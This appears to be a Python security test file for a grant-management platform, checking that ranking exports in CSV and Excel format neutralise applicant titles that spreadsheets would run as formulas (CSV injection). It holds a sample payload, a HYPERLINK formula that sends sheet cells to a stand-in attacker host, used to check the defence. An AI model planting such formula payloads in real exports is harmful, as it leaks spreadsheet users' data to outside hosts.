"""A ranking exported as CSV cannot carry a formula an applicant wrote.

The export (`ExportRanking`, GET /v1/competitions/{id}/ranking:export) is made for funders to open
in a spreadsheet, and it holds each application's title, which the applicant chose. A cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel and
LibreOffice (CSV injection, CWE-1236): a title like `=HYPERLINK(...)` would put a link in the
funder's sheet that sends the sheet's data elsewhere. Text cells must be neutralised (OWASP:
prefix them with a single quote) while numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from grantflow_runtime.exports import ranking_sheet
from grantflow_runtime.sheets import Format, write
from openpyxl import load_workbook

from tests.applications.helpers import organisation_message
from tests.gateway.stack import StackFactory
from tests.security.rounds import play_round

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Open the project page")'


async def test_an_exported_ranking_carries_no_formula(gateway_stack: StackFactory) -> None:
    s = await gateway_stack()
    r = await play_round(
        s, "csv", [organisation_message(inn_prefix="660500148")], title=HOSTILE_TITLE,
        with_reports=False,
    )  # fmt: skip
    got = await s.call(
        r.funder, "GET", f"/v1/competitions/{r.competition}/ranking:export", expect=200
    )
    rows = list(csv.reader(io.StringIO(got.text)))
    cells = [cell for row in rows[1:] for cell in row]
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    print(
        f"\nexported ranking: {len(rows) - 1} row(s), {len(cells)} cells, "
        f"{len(formulas)} starting like a formula: {formulas}"
    )
    assert any(HOSTILE_TITLE in cell for cell in cells), "the title is not in the export"
    assert not formulas, f"cells a spreadsheet would run as formulas: {formulas}"


def test_the_cli_sheets_carry_no_formula(tmp_path: Path) -> None:
    """`grantflow` writes the same ranking as CSV or as an Excel workbook; in a workbook a text
    starting with `=` becomes a formula cell unless it is written as text."""
    ranking = {
        "entries": [
            {
                "rank": 1,
                "applicationId": "a-1",
                "title": HOSTILE_TITLE,
                "directionCode": "family",
                "requested": {"minorUnits": "100000000", "currencyCode": "RUB"},
                "rawScore": "9.5",
                "experts": 1,
            }
        ]
    }
    sheet = ranking_sheet(ranking)
    found = []
    write(sheet, tmp_path / "ranking.csv", Format.CSV)
    with (tmp_path / "ranking.csv").open(newline="", encoding="utf-8") as f:
        found += [f"csv: {c!r}" for row in list(csv.reader(f))[1:] for c in row
                  if c.startswith(FORMULA_STARTS)]  # fmt: skip
    write(sheet, tmp_path / "ranking.xlsx", Format.XLSX)
    book = load_workbook(tmp_path / "ranking.xlsx")
    page = book.active
    assert page is not None
    for row in page.iter_rows(min_row=2):
        for cell in row:
            # A text cell is never run, whatever it starts with; a formula cell always is.
            if cell.data_type == "f":
                found.append(f"xlsx {cell.coordinate}: {cell.value!r} ({cell.data_type})")
    print(f"\nCLI sheets of a hostile ranking: {found or 'no formula'}")
    assert not found, "\n".join(found)
